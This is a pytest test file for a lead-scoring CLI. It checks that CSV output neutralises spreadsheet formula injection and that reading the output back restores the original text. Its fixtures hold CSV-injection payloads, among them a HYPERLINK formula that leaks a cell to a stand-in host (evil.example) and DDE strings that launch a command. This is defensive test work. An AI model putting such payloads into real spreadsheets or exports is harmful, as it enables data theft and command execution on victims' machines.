"""CSV files we write never hand a spreadsheet a formula that a lead typed (csv_formulas.py).

Round trips through `leadsync score`: a CSV of hostile answers in, the scored
CSV read back with Python's csv module as a spreadsheet would split it.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from typer.testing import CliRunner

from leadsync.cli import app
from leadsync.csv_formulas import neutralise, restore

HOSTILE = {
    "hyperlink": '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
    "dde": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "lf": "\n=1+1",
}
HARMLESS = {
    "plain": "VP of Sales",
    "separator": 'Acme, =1+2 "quoted"',  # one cell: a comma or quote cannot start another
    "inner": "a=b+c",
    "empty": "",
}


def write_leads(path: Path, rows: list[dict[str, str]]) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def read_rows(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def score(source: Path, target: Path, tmp_path: Path) -> None:
    config = tmp_path / "no-config.toml"  # absent: the default rules
    result = CliRunner().invoke(app, ["score", str(source), "-o", str(target), "-c", str(config)])
    assert result.exit_code == 0, result.output


@pytest.fixture
def scored(tmp_path) -> tuple[Path, list[dict[str, str]]]:
    """A student with a free email (a negative score) whose answers are all hostile or odd."""
    row = {"lead_id": "s1", "job_title": "Student", "email": "sam@gmail.com"}
    row |= HOSTILE | HARMLESS
    source = write_leads(tmp_path / "leads.csv", [row])
    score(source, tmp_path / "out.csv", tmp_path)
    return tmp_path / "out.csv", read_rows(tmp_path / "out.csv")


def test_cells_that_would_run_as_formulas_open_as_text(scored):
    _, (row,) = scored
    for column, typed in HOSTILE.items():
        assert row[column] == "'" + typed, column


def test_other_cells_and_our_own_negative_score_are_written_as_they_are(scored):
    _, (row,) = scored
    for column, typed in HARMLESS.items():
        assert row[column] == typed, column
    assert int(row["score"]) < 0 and row["score"].startswith("-")  # a number, not text
    assert row["mql"] == "FALSE" and row["score_reasons"].startswith("Student")


def test_a_scored_file_scored_again_is_the_same_file(scored, tmp_path):
    """Reading our own output back takes the quote off, so answers and scores do not drift."""
    once, rows = scored
    score(once, tmp_path / "twice.csv", tmp_path)
    assert read_rows(tmp_path / "twice.csv") == rows


def test_a_hostile_header_is_neutralised_too(tmp_path):
    source = write_leads(tmp_path / "leads.csv", [{"lead_id": "1", "=cmd|'/C calc'!A0": "x"}])
    score(source, tmp_path / "out.csv", tmp_path)
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as file:
        header = next(csv.reader(file))
    assert header[:2] == ["lead_id", "'=cmd|'/C calc'!A0"]


def test_neutralise_and_restore_are_inverse_for_text():
    for text in [*HOSTILE.values(), *HARMLESS.values(), "'plain"]:
        assert restore(neutralise(text)) == text
    assert neutralise(-5) == -5


def test_score_help_says_formulas_are_neutralised():
    result = CliRunner().invoke(app, ["score", "--help"], env={"COLUMNS": "200"})
    assert "formula" in result.output and "'" in result.output
